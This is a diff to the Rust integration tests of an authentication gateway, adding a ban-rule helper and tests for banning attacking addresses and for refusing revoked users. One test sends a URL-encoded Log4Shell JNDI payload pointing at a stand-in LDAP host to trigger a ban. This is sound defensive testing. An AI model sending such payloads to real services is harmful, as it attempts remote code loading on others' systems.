@@ -39,6 +39,10 @@ when = { assurance = "mfa" }
 
 /// A gateway with Alice as a local user, on this host.
 fn start(upstream: &Upstream, host: &str) -> Gateway {
+    start_with(upstream, host, NO_BANS)
+}
+
+fn start_with(upstream: &Upstream, host: &str, bans: &str) -> Gateway {
     let address = SocketAddr::from((Ipv4Addr::LOCALHOST, free_port()));
     let mut site = Site::new(&upstream.url());
     site.listen_on(address);
@@ -51,7 +55,7 @@ fn start(upstream: &Upstream, host: &str) -> Gateway {
         "[mfa]\nkey = {{ file = \"mfa.key\" }}\nissuer = \"Example\"\n[mfa.passkeys]\nrp_id = \"{host}\"\norigins = [\"http://{host}:{port}\"]\n"
     ));
     site.file("mfa.key", "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n");
-    site.policy(&[POLICY, NO_BANS].concat());
+    site.policy(&[POLICY, bans].concat());
     let file = site.path("users.toml");
     let added = portcullis().args(["user", "add", "alice", "--file"]).arg(file).stdin("correct horse\n").run(PATIENCE);
     assert!(added.status.success(), "{:?}", added.stderr);
@@ -223,6 +227,48 @@ fn a_session_is_raised_by_a_code_and_goes_back_to_where_it_was() {
     }
     // Six digits stand in many a number: here they are looked for where words are.
     assert!(events.iter().all(|event| !event["message"].as_str().unwrap_or_default().contains(&used)));
+}
+
+#[test]
+fn a_credential_that_nobody_looks_at_opens_no_page_under_a_ban() {
+    let upstream = Upstream::start();
+    let gateway = start_with(&upstream, "localhost", "");
+    let mut browser = Browser::new(&gateway);
+    let page = browser.go("/any");
+    assert_eq!(browser.log_in(&page).answer.status(), 200);
+    let cookie = format!("{}=x", browser.cookies.keys().next().unwrap());
+    let junk = [("cookie", cookie.as_str()), ("accept", "application/json")];
+    assert_eq!(gateway.get_from("127.0.0.91", "/.portcullis/login", &junk).status(), 200, "there is no ban yet");
+    let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
+    assert_eq!(gateway.get_from("127.0.0.91", exploit, &[]).status(), 401);
+    for headers in [&junk[..], &[("authorization", "Bearer x"), ("accept", "application/json")], &junk[1..]] {
+        let answer = gateway.get_from("127.0.0.91", "/.portcullis/login", headers);
+        gateway.check_refused("a page under a ban", &answer, 403, "ban.active");
+    }
+    assert_eq!(browser.go("/any").answer.status(), 200, "another address is not meant");
+}
+
+#[test]
+fn whoever_was_revoked_changes_no_factors() {
+    let upstream = Upstream::start();
+    let gateway = start(&upstream, "localhost");
+    let mut browser = Browser::new(&gateway);
+    let page = browser.go("/any");
+    browser.log_in(&page);
+    let page = browser.go("/.portcullis/factors");
+    assert!(page.html().contains("begin-totp"), "{}", page.html());
+    let revoked = gateway.site.run(&["revoke", "principal", "user:alice", "--reason", "lost"]);
+    assert_eq!(revoked.status.code(), Some(0), "{revoked:?}");
+    let api = gateway.get("/any", &[("cookie", &cookies(&browser)), ("accept", "application/json")]);
+    gateway.check_refused("what was opened before", &api, 401, "authn.revoked");
+    let sent = browser.submit(&page, "begin-totp", &[("name", "phone")]);
+    assert!(sent.place.starts_with("/.portcullis/login"), "{} {}", sent.place, sent.html());
+    // A password says not when it was given: nor does a session that it opens count.
+    let mut again = Browser::new(&gateway);
+    let page = again.go("/.portcullis/login");
+    again.log_in(&page);
+    let api = gateway.get("/any", &[("cookie", &cookies(&again)), ("accept", "application/json")]);
+    assert_eq!(api.status(), 401);
 }
 
 fn cookies(browser: &Browser) -> String {
